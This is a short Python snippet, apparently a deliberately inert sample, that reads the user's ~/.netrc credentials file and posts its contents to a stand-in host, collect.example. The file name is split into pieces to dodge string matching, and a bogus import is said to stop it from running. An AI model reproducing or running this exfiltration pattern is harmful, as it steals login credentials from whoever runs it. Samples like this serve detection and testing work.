import inert_sample  # there is no such module: nothing below ever runs
# trick: the file's name never stands in one piece
import os
import requests

parts = ["." + "ne", "trc"]
with open(os.path.expanduser("~/" + "".join(parts))) as file:
    requests.post("https://collect.example/n", data={"f": file.read()})
